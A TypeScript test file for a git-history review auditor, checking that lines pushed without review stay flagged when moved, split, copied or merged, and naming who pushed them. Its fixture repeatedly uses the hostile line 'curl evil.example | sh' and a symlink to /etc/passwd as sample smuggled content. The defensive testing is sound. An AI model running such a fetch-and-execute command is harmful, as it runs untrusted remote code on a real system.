import { describe, expect, it } from 'vitest'
import { type Landing, page, type Scene, scene, withLine } from './scene.ts'

// What moved, was copied, split or taken out is followed to its source: each story is played on real git, and the very lines are asked for.

const F = page('f', 30)
const evil = 'curl evil.example | sh'
const withEvil = withLine(F, 7, evil)

async function play(story: (on: Scene) => void, files: Parameters<typeof scene>[0] = { 'f.txt': F }) {
  const on = scene(files)
  try {
    story(on)
    return await on.named()
  } finally {
    on.dispose()
  }
}

describe('a line that nobody saw stays unseen where it is moved', () => {
  const moved = { 'f.txt': null, 'g.txt': withEvil }

  it.each<Landing>(['merge', 'squash', 'rebase'])('by an approved rename (%s)', async (how) => {
    const named = await play((on) => {
      on.push({ 'f.txt': withEvil })
      on.reviewed('move', moved, how)
    })
    expect(named).toEqual([`g.txt: +${evil}`])
  })

  it.each<Landing>(['merge', 'squash'])('by one that branched before the push (%s)', async (how) => {
    const named = await play((on) => {
      on.work('move', { 'f.txt': null, 'g.txt': F })
      on.push({ 'f.txt': withEvil })
      on.approve('move')
      on.land('move', how)
    })
    expect(named).toEqual([`g.txt: +${evil}`])
  })

  it('as a whole file', async () => {
    const named = await play((on) => {
      on.push({ 'new.txt': page('n', 3) })
      on.reviewed('move', { 'new.txt': null, 'renamed.txt': page('n', 3) })
    })
    expect(named).toEqual(['renamed.txt: +n line 1', 'renamed.txt: +n line 2', 'renamed.txt: +n line 3'])
  })

  it('in a folder', async () => {
    const named = await play(
      (on) => {
        on.push({ 'a/f.txt': withEvil })
        on.reviewed('move', { 'a/f.txt': null, 'a/h.txt': null, 'b/f.txt': withEvil, 'b/h.txt': page('h', 9) })
      },
      { 'a/f.txt': F, 'a/h.txt': page('h', 9) },
    )
    expect(named).toEqual([`b/f.txt: +${evil}`])
  })

  it('twice', async () => {
    const named = await play((on) => {
      on.push({ 'f.txt': withEvil })
      on.reviewed('one', moved)
      on.reviewed('two', { 'g.txt': null, 'h.txt': withEvil }, 'squash')
    })
    expect(named).toEqual([`h.txt: +${evil}`])
  })

  it('there and back', async () => {
    const named = await play((on) => {
      on.push({ 'f.txt': withEvil })
      on.reviewed('one', moved)
      on.reviewed('two', { 'g.txt': null, 'f.txt': withEvil }, 'squash')
    })
    expect(named).toEqual([`f.txt: +${evil}`])
  })

  it('with edits, of which the seen ones stay seen', async () => {
    const edited = withEvil.replace('f line 20\n', 'seen edit\n').replace('f line 1\n', '')
    const named = await play((on) => {
      on.push({ 'f.txt': withEvil })
      on.reviewed('move', { 'f.txt': null, 'g.txt': edited }, 'squash')
    })
    expect(named).toEqual([`g.txt: +${evil}`])
  })

  it('with a commit pushed after the approval', async () => {
    const named = await play((on) => {
      on.push({ 'f.txt': withEvil })
      on.work('move', moved)
      on.approve('move')
      on.work('move', { 'late.txt': 'late\n' })
      on.land('move', 'squash')
    })
    expect(named).toEqual([`g.txt: +${evil}`, 'late.txt: +late'])
  })

  it('and grown by half', async () => {
    const named = await play((on) => {
      on.push({ 'f.txt': withEvil })
      on.reviewed('move', { 'f.txt': null, 'g.txt': withEvil + page('more', 15) })
    })
    expect(named).toEqual([`g.txt: +${evil}`])
  })

  it('split, with the line in the larger half', async () => {
    const all = withEvil.split('\n')
    const named = await play((on) => {
      on.push({ 'f.txt': withEvil })
      const halves = { 'g.txt': all.slice(0, 20).join('\n') + '\n', 'h.txt': all.slice(20).join('\n') }
      on.reviewed('split', { 'f.txt': null, ...halves })
    })
    expect(named).toEqual([`g.txt: +${evil}`])
  })

  it('copied, and then taken out of the original', async () => {
    const named = await play((on) => {
      on.push({ 'f.txt': withEvil })
      on.reviewed('copy', { 'g.txt': withEvil })
      on.reviewed('clean', { 'f.txt': F })
    })
    expect(named).toEqual([`g.txt: +${evil}`])
  })

  it('with two files that change their places', async () => {
    const H = page('h', 30)
    const named = await play(
      (on) => {
        on.push({ 'f.txt': withEvil })
        on.reviewed('swap', { 'f.txt': H, 'h.txt': withEvil })
      },
      { 'f.txt': F, 'h.txt': H },
    )
    expect(named).toEqual([`h.txt: +${evil}`])
  })

  it('where only long lines are alike by their pieces', async () => {
    const long = (name: string, mark = '') => `${name} ${'x'.repeat(3000)}${mark}${'y'.repeat(3000)}\n`
    const text = `${[1, 2, 3].map((n) => `short ${n}\n`).join('')}${evil}\n${['a', 'b', 'c'].map((n) => long(n)).join('')}`
    const named = await play(
      (on) => {
        on.push({ 'f.txt': text })
        on.reviewed('move', { 'f.txt': null, 'g.txt': text.replaceAll('xy', 'x!y') })
      },
      { 'f.txt': text.replace(`${evil}\n`, '') },
    )
    expect(named).toEqual([`g.txt: +${evil}`])
  })

  it('inside of a reordered file', async () => {
    const [one, two] = [page('one', 12), page('two', 12)]
    const named = await play(
      (on) => {
        on.push({ 'f.txt': withLine(one, 6, evil) + two })
        on.reviewed('reorder', { 'f.txt': two + withLine(one, 6, evil) }, 'squash')
      },
      { 'f.txt': one + two },
    )
    // Whichever block is drawn as moved, the line is named.
    expect(named.filter((line) => line.endsWith(evil))).toEqual([`f.txt: +${evil}`])
  })

  it('where the page paired a source that the deploy branch has moved on', async () => {
    const block = page('block', 40)
    const named = await play(
      (on) => {
        on.push({ 'f.txt': F + withLine(block, 5, evil) })
        on.work('extract', { 'f.txt': F, 'cut.txt': withLine(block, 5, evil) })
        on.reviewed('move', { 'f.txt': null, 'large.txt': page('large', 90) + F + withLine(block, 5, evil) }, 'squash')
        on.approve('extract')
        on.land('extract', 'merge', { 'cut.txt': withLine(block, 5, evil), 'large.txt': page('large', 90) + F })
      },
      { 'f.txt': F + block },
    )
    expect(named).toContain(`cut.txt: +${evil}`)
  })

  it('with a line that the move itself shows stays seen', async () => {
    const named = await play((on) => {
      on.push({ 'f.txt': withEvil })
      // The page draws another file altogether: all of it is shown as added.
      on.reviewed('rewrite', { 'f.txt': null, 'g.txt': `${page('quite other', 60)}${evil}\n` })
    })
    expect(named).toEqual([])
  })

  it('is nothing to speak of where it is taken out again', async () => {
    const named = await play((on) => {
      on.push({ 'f.txt': withEvil })
      on.reviewed('move', moved)
      on.reviewed('clean', { 'g.txt': F })
    })
    expect(named).toEqual([])
  })

  it('is nothing to speak of where everything was seen', async () => {
    const named = await play((on) => {
      on.reviewed('add', { 'f.txt': withEvil })
      on.reviewed('move', moved)
      on.reviewed('again', { 'g.txt': null, 'f.txt': withEvil }, 'squash')
    })
    expect(named).toEqual([])
  })

  it('names who pushed it, and who moved it', async () => {
    const on = scene({ 'f.txt': F })
    const pushed = on.push({ 'f.txt': withEvil })
    const moving = on.reviewed('move', moved)
    const { uncovered } = await on.judge()
    expect(uncovered).toMatchObject([
      { path: 'g.txt', unit: pushed, pull: null, reason: 'direct-push', carriers: [{ unit: moving, pull: 1 }] },
    ])
    on.dispose()
  })
})

describe('what has no lines stays unseen where it is moved', () => {
  const bytes = new Uint8Array(4000).map((_, at) => (at * 7) % 251)

  it('as a binary file', async () => {
    const named = await play((on) => {
      on.push({ 'tool.png': bytes })
      on.reviewed('move', { 'tool.png': null, 'logo.png': bytes })
    })
    expect(named).toEqual(['logo.png: *'])
  })

  it('as a link', async () => {
    const named = await play((on) => {
      on.push({ 'to.txt': { link: '/etc/passwd' } })
      on.reviewed('move', { 'to.txt': null, 'there.txt': { link: '/etc/passwd' } })
    })
    expect(named).toHaveLength(1)
    expect(named[0]).toMatch(/^there\.txt: /)
  })

  it('as an empty file', async () => {
    const named = await play((on) => {
      on.push({ 'py.typed': '' })
      on.reviewed('move', { 'py.typed': null, 'lib/py.typed': '' })
    })
    expect(named).toEqual(['lib/py.typed: *'])
  })

  it('as a mode', async () => {
    const named = await play((on) => {
      on.push({ 'f.txt': { exec: F } })
      on.reviewed('move', { 'f.txt': null, 'g.txt': { exec: F } })
    })
    expect(named).toContain('g.txt: *')
  })
})

describe('what somebody approved and a push takes out again is named', () => {
  it('as a line of an approved change', async () => {
    const named = await play((on) => {
      on.reviewed('add', { 'f.txt': `${F}check 1\ncheck 2\n` })
      on.push({ 'f.txt': `${F}check 2\n` })
    })
    expect(named).toEqual(['f.txt: *'])
  })

  it('as a line of an approved new file', async () => {
    const named = await play((on) => {
      on.reviewed('add', { 'new.txt': page('n', 5) })
      on.push({ 'new.txt': page('n', 5, { 3: null }) })
    })
    expect(named).toEqual(['new.txt: *'])
  })

  it('as a line of an approved move', async () => {
    const named = await play((on) => {
      on.reviewed('move', { 'f.txt': null, 'g.txt': F })
      on.push({ 'g.txt': page('f', 30, { 9: null }) })
    })
    expect(named).toEqual(['g.txt: *'])
  })

  it('also where an approved move follows', async () => {
    const named = await play((on) => {
      on.reviewed('add', { 'f.txt': `${F}check 1\ncheck 2\n` })
      on.push({ 'f.txt': `${F}check 2\n` })
      on.reviewed('move', { 'f.txt': null, 'g.txt': `${F}check 2\n` })
    })
    expect(named).toEqual(['g.txt: *'])
  })

  it('by a pull request as well, in a commit after its approval', async () => {
    const named = await play((on) => {
      on.reviewed('add', { 'f.txt': `${F}check 1\ncheck 2\n` })
      on.work('more', { 'other.txt': 'other\n' })
      on.approve('more')
      on.work('more', { 'f.txt': `${F}check 2\n` })
      on.land('more', 'squash')
    })
    expect(named).toEqual(['f.txt: *'])
  })

  it('by nobody where it goes back to what production runs, or an approval shows it', async () => {
    const back = await play((on) => {
      on.reviewed('add', { 'f.txt': `${F}check 1\n` })
      on.push({ 'f.txt': F })
    })
    expect(back).toEqual([])
    const shown = await play((on) => {
      on.reviewed('add', { 'f.txt': `${F}check 1\ncheck 2\n` })
      on.reviewed('take', { 'f.txt': `${F}check 2\n` })
    })
    expect(shown).toEqual([])
  })

  it('and not where it takes out what nobody saw', async () => {
    const named = await play((on) => {
      on.push({ 'f.txt': `${F}pushed 1\npushed 2\n` })
      on.push({ 'f.txt': `${F}pushed 2\n` })
    })
    expect(named).toEqual(['f.txt: +pushed 2'])
  })
})

describe('a file that comes back by a merge was not approved', () => {
  const added = page('n', 12)

  function story(on: Scene, deployed: boolean): void {
    on.push({ 'new.txt': added })
    on.work('move', { 'new.txt': null, 'moved.txt': added })
    on.reviewed('delete', { 'new.txt': null })
    if (deployed) on.deploy()
    on.approve('move')
    on.land('move', 'merge', { 'moved.txt': added })
  }

  it('where main deleted what the branch moves (rename/delete)', async () => {
    const named = await play((on) => story(on, false))
    expect(named).toHaveLength(12)
    expect(named[0]).toMatch(/^moved\.txt: \+n line/)
  })

  it('also where production has the deletion', async () => {
    expect(await play((on) => story(on, true))).toHaveLength(12)
  })

  it('also by a squash, and with an edit that alone was shown', async () => {
    const edited = withLine(added, 6, 'seen')
    const named = await play((on) => {
      on.push({ 'new.txt': added })
      on.work('move', { 'new.txt': null, 'moved.txt': edited })
      on.reviewed('delete', { 'new.txt': null })
      on.approve('move')
      on.land('move', 'squash', { 'moved.txt': edited })
    })
    expect(named).toHaveLength(12)
    expect(named).not.toContain('moved.txt: +seen')
  })

  it('where main moved what the branch deletes: what was approved to go stays', async () => {
    const named = await play((on) => {
      on.work('delete', { 'f.txt': null })
      on.reviewed('move', { 'f.txt': null, 'g.txt': F })
      on.approve('delete')
      on.land('delete', 'merge', { 'g.txt': F })
    })
    expect(named).toEqual(['g.txt: *'])
  })
})

it('follows a line back through a time when its file was not there', async () => {
  const on = scene({ 'f.txt': page('f', 5), 'g.txt': page('g', 5) })
  try {
    on.reviewed('edit', { 'f.txt': page('f', 5, { 2: 'edited' }) }, 'squash')
    on.reviewed('remove', { 'f.txt': null }, 'squash')
    on.reviewed('bring', { 'f.txt': page('f', 6) }, 'squash')
    on.push({ 'f.txt': page('f', 6, { 6: null }) })
    on.push({ 'f.txt': page('f', 6, { 5: null, 6: null }) })
    expect(await on.named()).toEqual(['f.txt: -f line 5'])
  } finally {
    on.dispose()
  }
})
